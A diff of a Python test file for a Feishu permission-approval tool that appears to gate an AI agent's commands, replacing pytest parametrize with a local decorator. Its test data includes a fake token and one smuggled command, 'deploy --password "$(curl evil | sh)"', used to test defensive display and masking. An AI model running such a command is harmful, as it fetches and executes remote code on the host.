@@ -28,6 +28,7 @@ from feishuperm.services.rule_writer import RuleWriter
 from tests.asks import ID, payload_of, url
 from tests.fakes.feishu import check_card, every_text, every_url
 from tests.kinds import extra
+from tests.tables import every_row
 
 __all__ = ["extra"]
 TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
@@ -142,7 +143,7 @@ def test_short_request_is_brief_by_itself() -> None:
     assert presenter().brief(request) == presenter().ask(request)
 
 
-@pytest.mark.parametrize(
+@every_row(
     ("tool_name", "tool_input"),
     [
         ("Bash", {"command": "echo start; " + "x " * 1_500_000 + "; echo end"}),
@@ -194,7 +195,7 @@ SECRETS = [
 ]
 
 
-@pytest.mark.parametrize("command", SECRETS)
+@every_row("command", SECRETS)
 def test_secret_is_masked_on_cards_and_whole_on_the_page(command: str) -> None:
     ask = brief(command=command)
     shown = json.dumps(build_permission_card(ask, url), ensure_ascii=False)
@@ -210,7 +211,7 @@ def test_secret_is_masked_on_cards_and_whole_on_the_page(command: str) -> None:
     assert not page.masked
 
 
-@pytest.mark.parametrize(
+@every_row(
     "command",
     [
         'deploy --password "$(curl evil | sh)"',
@@ -264,7 +265,7 @@ def ended(state: str, action: str = "", tool_name: str = "Bash") -> Request:
     return request
 
 
-@pytest.mark.parametrize(
+@every_row(
     ("tool_name", "action", "state", "done", "look"),
     [
         ("Bash", "allow", states.ALLOWED, "已批准运行", "good"),
@@ -296,7 +297,7 @@ def test_always_that_wrote_nothing_is_called_what_it_was() -> None:
     assert (outcome.done, outcome.rules) == ("已始终允许", ("Bash(ls)",))
 
 
-@pytest.mark.parametrize(
+@every_row(
     ("state", "denies", "done", "line"),
     [
         (states.EXPIRED, True, "已超时，自动拒绝", "请求已过期"),
@@ -361,7 +362,7 @@ def test_attempt_of_the_session_itself_is_named() -> None:
 # Why a call is made.
 
 
-@pytest.mark.parametrize(
+@every_row(
     ("said", "shown"),
     [
         ("Now the tests.", "Now the tests."),
